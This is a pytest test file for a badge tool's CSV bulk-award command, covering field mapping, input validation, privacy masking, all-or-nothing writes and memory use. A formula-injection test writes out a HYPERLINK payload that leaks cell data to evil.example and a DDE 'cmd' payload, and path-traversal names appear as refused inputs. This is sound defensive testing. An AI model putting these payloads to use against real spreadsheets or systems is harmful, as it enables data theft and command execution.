"""`award --csv`: all rows or none, whatever the table holds and whatever happens meanwhile; and no memory that grows with it."""

from __future__ import annotations

import os
import resource
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from badgepress.authoring.award_table import AwardTable, TableRow
from badgepress.authoring.recipients import email_recipient, recipient_code
from badgepress.content.yaml_reader import FORBIDDEN
from badgepress.errors import BadgepressError
from tests.authoring.awarding import COLUMNS, OUTSIDE, Awarding, command, row
from tests.history.repository import git
from tests.organisation import NOW

SMALL = ["did", "evidence.1.name", "results.tying"]


def small(number: int) -> list[str]:
    return [f"did:key:z6Mk{number}", "A rope", "sure"]


def of_batch(awarding: Awarding, name: str) -> list[dict[str, object]]:
    """Return the awards of a batch file as the build reads them."""
    from badgepress.authoring.repository import awards_in

    data = (awarding.root / "content/awards" / name).read_bytes()
    return [values for _, _, values in awards_in(f"content/awards/{name}", data)]


# what becomes of a table ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("into", ["", "spring.csv", "spring.jsonl"])
def test_every_field_of_a_row_arrives(into: str, awarding: Awarding) -> None:
    columns = [
        "E-Mail", "badge", "name", "awarded", "expires", "evidence.2.name", "evidence.2.url", "evidence.5.name", "evidence.5.description",
        "results.tying", "narrative", "assessor.name", "assessor.role", "awarded_by", "visibility", "consent.on", "consent.text",
    ]  # fmt: skip
    full = [
        OUTSIDE, "knots@1", "Zoë Ångström", "2026-11-02T10:00:00+01:00", "2027-11-02", "A rope", "https://knots.example/r?a=1,2", "A; “film”", "One\r\n\r\ntwo",
        "blindfold", "# Found it\n\n- and, \"tied\" it: yes", "Bench", "trainer", "The board", "listed", "2026-11-01", "2026-2",
    ]  # fmt: skip
    bare = [f"x{OUTSIDE}", "", "", "", "", "", "", "A board", "", "sure", *[""] * 7]
    table = awarding.table([full, [""] * len(columns), bare], columns)
    assert awarding.run("award", "knots", "--csv", table, *(["--into", into] if into else [])) == 0, awarding.err
    values = of_batch(awarding, into) if into else sorted(awarding.new_awards().values(), key=len, reverse=True)
    first, second = values
    recipient, status_index = first.pop("recipient"), first.pop("status_index")
    assert isinstance(recipient, dict)
    assert recipient == email_recipient(OUTSIDE, recipient["salt"])
    assert isinstance(status_index, int)
    assert first == {
        "badge": "knots@1", "name": "Zoë Ångström", "consent": {"on": "2026-11-01", "text": "2026-2"}, "awarded": "2026-11-02T10:00:00+01:00",
        "expires": "2027-11-02", "results": {"tying": "blindfold"}, "narrative": "# Found it\n\n- and, \"tied\" it: yes",
        "evidence": [{"name": "A rope", "url": "https://knots.example/r?a=1,2"}, {"name": "A; “film”", "description": "One\n\ntwo"}],
        "assessor": {"name": "Bench", "role": "trainer"}, "awarded_by": "The board", "visibility": "listed",
    }  # fmt: skip
    assert (second["badge"], second["awarded"], second["evidence"]) == ("knots@1", "2026-11-24", [{"name": "A board"}])
    assert awarding.run("check") == 0, awarding.out
    assert not [name for name, data in awarding.tree().items() if OUTSIDE.encode() in data]


@pytest.mark.parametrize(("delimiter", "start"), [(",", b"\xef\xbb\xbf"), (";", b""), ("\t", b"\xef\xbb\xbf")])
def test_tables_as_spreadsheets_save_them(delimiter: str, start: bytes, awarding: Awarding) -> None:
    table = Path(awarding.table([row(n) for n in range(3)], delimiter=delimiter))
    table.write_bytes(start + table.read_bytes())
    assert awarding.run("award", "knots", "--csv", str(table)) == 0, awarding.err
    assert len(awarding.new_awards()) == 3
    assert len({Path(path).parent for path in awarding.new_awards()}) == 1


def test_a_dry_run_shows_masked_rows_and_writes_nothing(awarding: Awarding) -> None:
    before = awarding.tree()
    table = awarding.table([[OUTSIDE, *row(0)[1:]], *(row(n) for n in range(60))])
    assert awarding.run("award", "knots", "--csv", table, "--dry-run") == 0
    lines = awarding.out.splitlines()
    assert lines[1].split() == ["2", "knots@1", "a***@e***.example", "2026-11-02", "1", "unlisted"]
    assert lines[-1] == "… and 11 more rows"
    assert "61 awards would be written" in awarding.err
    assert awarding.tree() == before


def test_batch_files_can_be_edited_afterwards(awarding: Awarding) -> None:
    for first, name in ((0, "spring.csv"), (10, "autumn.jsonl")):
        people = awarding.table([row(first + n) for n in range(5)])
        assert awarding.run("award", "knots", "--csv", people, "--into", name) == 0, awarding.err
        where = awarding.root / "content/awards" / name
        before = where.read_text().splitlines()
        award_id = before[3].partition(",")[0] if name.endswith("csv") else before[3].partition('"id":"')[2][:36]
        assert awarding.run("revoke", award_id, "--reason", "A slip, alas") == 0, awarding.err
        after = where.read_text().splitlines()
        assert len(after) == len(before)
        unchanged = [number for number, line in enumerate(after) if line.rstrip(",") == before[number].rstrip(",")]
        assert 3 not in unchanged
        assert len(unchanged) >= len(before) - 2
        assert awarding.run("check") == 0, awarding.out
        assert awarding.run("revoke", award_id, "--reason", "Again") == 1
        assert awarding.run("award", "knots", "--csv", awarding.table([row(9)]), "--into", name) == 1
        assert "there already" in awarding.err


# what is refused ------------------------------------------------------------------------------------------------------------------


def test_all_problems_of_all_rows_are_told_at_once_with_their_lines(awarding: Awarding) -> None:
    good = row(0)
    rows = [
        good,
        ["nobody", *good[1:]],
        [good[0].upper(), *good[1:]],
        row(3, awarded="2027-01-01"),
        row(4, **{"results.tying": "badly"}),
        row(5, **{"evidence.1.name": ""}),
        row(6, narrative=f"Ask {OUTSIDE}"),
        row(7)[:3],
        row(8, narrative="a\0b"),
        row(9, awarded="yesterday"),
        ["", *good[1:]],
        row(11, narrative="x" * 4001),
    ]
    before = awarding.tree()
    assert awarding.run("award", "knots", "--csv", awarding.table(rows)) == 1
    told = [line.split(" ")[0] + line.partition("error ")[2].partition(":")[0] for line in awarding.err.splitlines() if ": error " in line]
    assert told == [
        "people.csv:3:1:BP401", "people.csv:4:1:BP108", "people.csv:5:1:BP306", "people.csv:6:1:BP602", "people.csv:7:1:BP604", "people.csv:8:5:BP402",
        "people.csv:9:1:BP005", "people.csv:10:5:BP004", "people.csv:11:1:BP104", "people.csv:12:1:BP401", "people.csv:13:1:BP106",
    ]  # fmt: skip
    assert "Nothing was written" in awarding.err or "nothing was written" in awarding.err
    assert awarding.tree() == before


@pytest.mark.parametrize(
    ("columns", "said"),
    [
        (["name"], "no column names the recipient"),
        (["email", "status_index"], "draws it at random"),
        (["email", "recipient.salt"], "draws it at random"),
        (["email", "id"], "draws it at random"),
        (["email", "revoked.on"], "first award, then badgepress revoke"),
        (["email", "narative"], "Did you mean “narrative”?"),
        (["email", "email"], "stands twice"),
        (["email", ""], "has no name"),
        (["email", "evidence.0.name"], "means nothing here"),
        (["email", "evidence.21.name"], "means nothing here"),
        (["email", "\x1b[31mred"], "means nothing here"),
        ([OUTSIDE, "Ada"], "holds an address"),
    ],
)
def test_columns_that_may_not_be_there(columns: list[str], said: str, awarding: Awarding) -> None:
    assert awarding.run("award", "knots", "--csv", awarding.table([["x"] * len(columns)], columns)) == 1
    assert said in awarding.err
    assert "\x1b" not in awarding.err
    assert not awarding.new_awards()


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "is empty"),
        (b",,,\n", "first line of people.csv is empty"),
        (b"did\n", "has no rows"),
        (b'"did\n', "is not CSV"),
        ("did,name\nx,y\n".encode("utf-16"), "is not UTF-8 text"),
        (b"PK\x03\x04\x14\0", "is not UTF-8 text"),
        (b"did,evidence.1.name\ndid:key:z6,Caf\xe9\n", "“evidence.1.name” is not UTF-8 text"),
        (b'did,evidence.1.name\ndid:key:z6,"never closed\n', "never closed"),
        (b'did,evidence.1.name\ndid:key:z6,"a" b\n', "quotation mark stands where none may be"),
        (b"did,evidence.1.name\rdid:key:z6,a\r", "end in a way that is not read here"),
        (b"did,narrative\ndid:key:z6," + b"x" * 70_000 + b"\n", "more than 65,536 bytes"),
        (b"did" + b",name" * 20_000 + b"\n", "is too long"),
        (b"did,narrative\n" + b"," * 70_000 + b"\n", "more than 65,536 bytes"),
        (b'did,narrative\ndid:key:z6,"' + b"x\n" * 70_000, "more than 65,536 bytes"),
    ],
)
def test_files_that_are_no_table(data: bytes, said: str, awarding: Awarding) -> None:
    before = awarding.tree()
    assert awarding.run("award", "knots", "--csv", awarding.raw_table(data)) == 1
    assert said in awarding.err
    assert awarding.tree() == before


def test_a_table_without_badge_or_with_unknown_ones(awarding: Awarding) -> None:
    assert awarding.run("award", "--csv", awarding.table([small(1)], SMALL)) == 1
    assert "does not say which badge" in awarding.err
    rows = [[*small(number), badge] for number, badge in enumerate(["nots", "knots@9", "", "knots"])]
    assert awarding.run("award", "--csv", awarding.table(rows, [*SMALL, "badge"])) == 1
    assert [line.partition(":")[2][0] for line in awarding.err.splitlines() if "BP201" in line] == ["2", "3", "4"]


@pytest.mark.parametrize("column", ["did", "url", "code", "badge", "awarded", "visibility", "results.tying", "evidence.1.url", "supersedes", "name"])
def test_an_address_in_another_column_is_told_and_not_repeated(column: str, awarding: Awarding) -> None:
    row = {"did": "did:key:z6Mk", "evidence.1.name": "A", "results.tying": "sure"}
    row = {name: cell for name, cell in row.items() if name != "did" or column not in ("url", "code")} | {column: OUTSIDE}
    assert awarding.run("award", "knots", "--csv", awarding.table([list(row.values())], list(row))) == 1
    assert f"“{column}” holds an e-mail address" in awarding.err


def test_a_code_serves_once(awarding: Awarding) -> None:
    code = recipient_code(email_recipient(OUTSIDE))
    columns = ["code", *SMALL[1:], "badge"]
    assert awarding.run("award", "--csv", awarding.table([[code, "A", "sure", "knots"], [code, "B", "sure", "knots@1"]], columns)) == 1
    assert "BP403" in awarding.err
    assert awarding.run("award", "knots", "--csv", awarding.table([[code, "A", "sure"]], ["code", *SMALL[1:]])) == 0, awarding.err
    assert awarding.run("award", "knots", "--csv", awarding.table([[code, "A", "sure"]], ["code", *SMALL[1:]])) == 1
    assert "used for another award" in awarding.err


def test_one_person_twice_is_found_however_badge_and_address_are_written(awarding: Awarding) -> None:
    rows = [[OUTSIDE, "A", "sure", "knots"], [f" {OUTSIDE.upper()} ", "B", "sure", "knots@1"]]
    assert awarding.run("award", "--csv", awarding.table(rows, ["email", *SMALL[1:], "badge"])) == 1
    assert "people.csv:3:1: error BP108: the same recipient and badge as in line 2" in awarding.err


@pytest.mark.parametrize("into", [[], ["--into", "spring.jsonl"]])
def test_a_table_that_was_awarded_before_is_refused(awarding: Awarding, into: list[str]) -> None:
    table = awarding.table([row(number) for number in range(3)])
    assert awarding.run("award", "knots", "--csv", table, *into) == 0, awarding.err
    before = awarding.tree()
    for more in ([], ["--dry-run"]):
        assert awarding.run("award", "knots@1", "--csv", table, *more) == 1
        assert awarding.err.count("error BP108: this recipient was awarded knots@1 on that day already: ") == 3
    assert awarding.tree() == before


def test_another_term_by_a_table_is_a_warning(awarding: Awarding) -> None:
    assert awarding.run("award", "knots", "--csv", awarding.table([row(1)])) == 0, awarding.err
    assert awarding.run("award", "knots", "--csv", awarding.table([row(1, awarded="2026-11-20"), row(2)])) == 0, awarding.err
    assert awarding.err.count("people.csv:2:1: warning BP108: this recipient holds knots@1 already: ") == 1
    assert awarding.err.count("BP108") == 1


def test_a_pipe_is_no_table(awarding: Awarding) -> None:
    done = command("award", "knots", "-C", str(awarding.root), "--csv", "/dev/stdin", "--now", NOW, input="did\ndid:key:z6\n")
    assert (done.returncode, "not a file" in done.stderr) == (1, True)


def test_a_thousand_faulty_rows_do_not_flood_the_terminal(awarding: Awarding) -> None:
    assert awarding.run("award", "knots", "--csv", awarding.table([["x"] for _ in range(1000)], ["did"])) == 1
    assert awarding.err.count(": error ") == 200
    assert "there are more" in awarding.err


def test_formulas_are_text_and_do_not_come_into_a_table_that_somebody_opens(awarding: Awarding) -> None:
    formula = '=HYPERLINK("https://evil.example?"&A1,"Look")'
    table = awarding.table([row(1, narrative=formula), row(2, narrative="- tied them\n- all")])
    for cell in ("+1", "@SUM(A1)", "-1+cmd|' /C calc'!A0"):
        assert awarding.run("award", "knots", "--csv", awarding.table([row(1, narrative=cell)], name="f.csv"), "--into", "spring.csv") == 1
        assert "would take it for a formula" in awarding.err
    assert awarding.run("award", "knots", "--csv", table, "--into", "spring.csv") == 1
    assert not awarding.new_awards()
    assert awarding.run("award", "knots", "--csv", table, "--into", "spring.jsonl") == 0, awarding.err
    assert of_batch(awarding, "spring.jsonl")[0]["narrative"] == formula
    assert awarding.run("award", "knots", "--csv", awarding.table([row(3, narrative=formula)])) == 0, awarding.err
    assert formula in [values["narrative"] for values in awarding.new_awards().values()]
    assert awarding.run("check") == 0, awarding.out


@pytest.mark.parametrize("into", ["../x.csv", "/tmp/x.csv", "x.yml", ".csv", "X.csv", "a/b.csv"])
def test_a_batch_stays_in_its_folder(into: str, awarding: Awarding) -> None:
    assert awarding.run("award", "knots", "--csv", awarding.table([small(1)], SMALL), "--into", into) == 2


def test_a_table_with_addresses_stays_out_of_the_repository(awarding: Awarding) -> None:
    git(awarding.root, "init", "-q", "-b", "main")
    (awarding.root / "people.csv").write_text(f"email,evidence.1.name,results.tying\n{OUTSIDE},A,sure\n")
    arguments = ["award", "knots", "--csv", str(awarding.root / "people.csv")]
    assert awarding.run(*arguments) == 1
    assert "add it to .gitignore: people.csv" in awarding.err
    (awarding.root / ".gitignore").write_text("people.csv\n")
    assert awarding.run(*arguments) == 0
    assert "delete it when you are done" in awarding.err


@pytest.mark.parametrize("option", [["--name", "Ada"], ["--did", "did:key:z6"], ["--email-stdin"], ["--result", "tying=sure"]])
def test_options_of_one_award_say_nothing_beside_a_table(option: list[str], awarding: Awarding) -> None:
    assert awarding.run("award", "knots", "--csv", awarding.table([small(1)], SMALL), *option) == 2
    assert "give the table a column" in awarding.err


@given(st.binary(max_size=300) | st.text(alphabet='a,;"\n\r\t\0é\ufeff', max_size=60).map(str.encode))
def test_whatever_the_bytes_a_table_is_read_or_refused(data: bytes) -> None:
    import tempfile

    with tempfile.NamedTemporaryFile(suffix=".csv") as file:
        for start in (b"", b"did,evidence.1.name,narrative\n", b"email;name\n"):
            file.seek(0)
            file.truncate()
            file.write(start + data)
            file.flush()
            try:
                found = list(AwardTable(Path(file.name), "knots").rows())
            except BadgepressError:
                continue
            for one in found:
                if isinstance(one, TableRow):
                    assert one.values["badge"]
                    assert not FORBIDDEN.search("".join(str(value) for value in one.values.values()))


# all or none ----------------------------------------------------------------------------------------------------------------------


def begin(awarding: Awarding, table: str, *more: str, most_bytes: int = 0) -> subprocess.Popen[str]:
    def limit() -> None:
        if most_bytes:
            resource.setrlimit(resource.RLIMIT_FSIZE, (most_bytes, most_bytes))

    return subprocess.Popen(
        [sys.executable, "-m", "badgepress", "award", "knots", "-C", str(awarding.root), "--csv", table, "--now", NOW, *more],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=limit,
    )  # fmt: skip


@pytest.mark.parametrize("into", [[], ["--into", "spring.jsonl"]])
def test_a_disk_that_refuses_midway_leaves_nothing(into: list[str], awarding: Awarding) -> None:
    # a file may not exceed the limit: the last row's award does, or the batch as a whole
    rows = [row(number) for number in range(300)]
    rows.append(row(300, narrative="é" * 4000))
    before = awarding.tree()
    done = begin(awarding, awarding.table(rows), *into, most_bytes=6000)
    _, err = done.communicate(timeout=60)
    assert done.returncode == 74, err
    assert err.count("\n") <= 2
    assert "File too large" in err
    assert awarding.tree() == before
    assert not list(awarding.root.glob(".badgepress-*"))


@pytest.mark.parametrize("into", [[], ["--into", "spring.csv"]])
@pytest.mark.parametrize("how", [signal.SIGINT, signal.SIGKILL])
def test_a_stop_midway_leaves_no_award(how: signal.Signals, into: list[str], awarding: Awarding) -> None:
    before = awarding.tree()
    running = begin(awarding, awarding.table([row(number) for number in range(5000)]), *into)
    deadline = time.monotonic() + 60
    while not list(awarding.root.glob(".badgepress-award-*/*")) and time.monotonic() < deadline:
        time.sleep(0.01)
    running.send_signal(how)
    _, err = running.communicate(timeout=60)
    assert running.returncode != 0
    assert "Traceback" not in err
    left = list(awarding.root.glob(".badgepress-*"))
    assert bool(left) == (how == signal.SIGKILL)
    assert {path: data for path, data in awarding.tree().items() if ".badgepress-" not in path} == before
    # the next run clears away what a killed one left
    assert awarding.run("award", "knots", "--csv", awarding.table([row(1)])) == 0
    assert not list(awarding.root.glob(".badgepress-*"))


def test_runs_at_the_same_time_do_not_disturb_each_other(awarding: Awarding) -> None:
    tables = [awarding.table([row(1000 * run + number) for number in range(150)], name=f"{run}.csv") for run in range(3)]
    running = [begin(awarding, table) for table in tables]
    for one in running:
        _, err = one.communicate(timeout=120)
        assert one.returncode == 0, err
    assert len(awarding.new_awards()) == 450
    awarding.run("check")
    # runs that know nothing of each other draw the same status index once in sixteen times; `fix` is for that
    assert not [line for line in awarding.out.splitlines() if " error " in line and "BP303" not in line]


def peak_kib(awarding: Awarding, table: str) -> int:
    code = (
        "import resource, sys; from badgepress.cli.main import run; code = run(sys.argv[1:]);"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss); sys.exit(code)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, "award", "knots", "-C", str(awarding.root), "--csv", table, "--now", NOW],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return int(done.stdout.split()[-1])


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss has other units elsewhere")
def test_memory_does_not_grow_with_the_table(awarding: Awarding) -> None:
    few, many = (peak_kib(awarding, awarding.table([row(10_000 * size + number) for number in range(size)])) for size in (400, 2400))
    assert many - few < 1500, (few, many)


def test_a_table_is_awarded_by_a_process_of_its_own(awarding: Awarding) -> None:
    table = awarding.table([row(number) for number in range(3)], COLUMNS)
    done = command("award", "knots", "-C", str(awarding.root), "--csv", table, "--now", NOW, env={**os.environ, "LC_ALL": "C", "PYTHONUTF8": "0"})
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("wrote 3 awards into content/awards/2026/2026-11-24-")
